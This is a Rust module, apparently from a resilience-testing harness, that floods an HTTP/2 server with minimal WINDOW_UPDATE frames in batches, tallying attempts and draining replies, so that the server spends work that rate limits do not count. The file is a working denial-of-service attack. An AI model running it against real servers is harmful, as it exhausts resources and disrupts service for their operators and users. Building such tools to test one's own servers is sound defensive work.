//! Sends frames of HTTP/2 that carry no request, as fast as the server takes them: the smallest steps of a window. The
//! server has to look at each, and no limit on calls counts them.

use stickycas_client::Error;
use tokio::io::AsyncWriteExt as _;

use super::attack_context::AttackContext;
use super::frames::{WINDOW_UPDATE, drain, frame, open_with_a_call, ping};

/// Frames of one write.
const AT_A_TIME: usize = 1_024;

pub(super) async fn attack(context: &AttackContext) -> Result<(), Error> {
    let (mut read, mut write) = open_with_a_call(context).await?;
    let one = frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes());
    let flood = async {
        let (mut rest, mut is_first) = (context.count as usize, true);
        while rest > 0 {
            let frames = rest.min(AT_A_TIME);
            context.tally.attempts(frames as u64);
            if write.write_all(&one.repeat(frames)).await.is_err() {
                context.tally.cut();
                return;
            }
            rest -= frames;
            // The server takes the others as slowly as it likes: once it has taken these, the process goes on beside them.
            if is_first && write.write_all(&ping()).await.is_err() {
                context.tally.cut();
                return;
            }
            is_first = false;
        }
        // The server has taken it all.
        let _ = write.shutdown().await;
    };
    tokio::join!(flood, drain(context, &mut read));
    Ok(())
}
